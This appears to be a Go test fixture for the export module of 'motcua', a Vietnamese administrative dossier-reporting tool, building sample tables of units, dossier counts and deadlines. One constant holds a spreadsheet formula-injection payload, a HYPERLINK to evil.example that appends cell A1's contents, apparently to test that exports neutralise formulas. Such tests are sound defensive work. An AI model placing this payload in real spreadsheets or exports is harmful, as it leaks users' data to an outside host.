package export_test

import (
	"time"

	"github.com/motcua/motcua"
	"github.com/motcua/motcua/export"
)

// injection is a unit name that a spreadsheet would run as a formula.
const injection = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`

func day(y int, m time.Month, d, h, min int) time.Time {
	return time.Date(y, m, d, h, min, 0, 0, motcua.Location)
}

func cells(vs ...any) []export.Cell {
	r := make([]export.Cell, len(vs))
	for i, v := range vs {
		r[i] = export.Cell{Value: v, Link: "/dossiers?unit=x"}
	}
	return r
}

// testDoc returns a document with a form 06 style table (two header rows,
// a footer) and a list of dossiers with dates and times.
func testDoc() *export.Doc {
	units := &export.Table{
		Name:  "units",
		Title: "Kết quả giải quyết theo đơn vị",
		Columns: []export.Column{
			{Key: "stt", Title: "STT", Kind: export.Count},
			{Key: "unit", Title: "Đơn vị", Kind: export.Text},
			{Key: "received", Title: "Tổng số", Kind: export.Count},
			{Key: "online", Title: "Trực tuyến", Kind: export.Count},
			{Key: "online_share", Title: "Tỷ lệ trực tuyến", Kind: export.Share},
			{Key: "resolved", Title: "Tổng số", Kind: export.Count},
			{Key: "early", Title: "Trước hạn", Kind: export.Count},
			{Key: "on_time", Title: "Đúng hạn", Kind: export.Count},
			{Key: "late", Title: "Quá hạn", Kind: export.Count},
			{Key: "score", Title: "Điểm đánh giá tiến độ", Kind: export.Number},
		},
		Groups: []export.Group{{Span: 2}, {Title: "Số hồ sơ tiếp nhận", Span: 3}, {Title: "Số hồ sơ đã giải quyết", Span: 4}},
		Rows: [][]export.Cell{
			cells(1, "Văn phòng HĐND và UBND", 2329, uint64(1144), 49.1, 2295, int64(1049), uint32(1210), 36, 17.5),
			cells(2, "Ủy ban nhân dân xã Trường Long Hòa", 12345, 6000, 48.6, 12345, 9000, 3345, 0, 20.0),
			cells(3, "Phường 1", 7, 0, 0.0, 7, 7, 0, 0, nil),
			cells(4, injection, 1, 1, 100.0, 1, 0, 1, 0, 18.25),
		},
		Footer: cells(nil, "Tổng cộng", 14682, 7145, 48.7, 14648, 10056, 4556, 36, nil),
	}
	dossiers := &export.Table{
		Name:  "open_dossiers",
		Title: "Hồ sơ đang giải quyết: quá hạn [trước], sắp đến hạn / còn hạn",
		Columns: []export.Column{
			{Key: "code", Title: "Mã hồ sơ", Kind: export.Text},
			{Key: "procedure", Title: "Thủ tục", Kind: export.Text},
			{Key: "received", Title: "Ngày tiếp nhận", Kind: export.Date},
			{Key: "due", Title: "Hạn giải quyết", Kind: export.Time},
			{Key: "late", Title: "Số ngày làm việc quá hạn", Kind: export.Number},
		},
		Rows: [][]export.Cell{
			cells("000.00.07.H59-221227-0001", "Đăng ký khai sinh", day(2022, 12, 27, 0, 0), day(2022, 12, 29, 8, 30), 2.5),
			cells("-12", "+ Chứng thực bản sao", day(2022, 1, 3, 0, 0), day(2023, 1, 4, 17, 0), -1.0),
		},
	}
	again := &export.Table{
		Name:    "units_again",
		Title:   "kết quả giải quyết theo đơn vị",
		Columns: []export.Column{{Title: "Đơn vị", Kind: export.Text}},
		Rows:    [][]export.Cell{cells("Phường 1")},
	}
	return &export.Doc{
		Title:  "Tổng quan: Thị xã Duyên Hải",
		Lines:  []string{"Kỳ: Năm 2022 (01/01/2022 – 31/12/2022)", "Lọc: kênh trực tuyến"},
		Tables: []*export.Table{units, dossiers, again},
	}
}
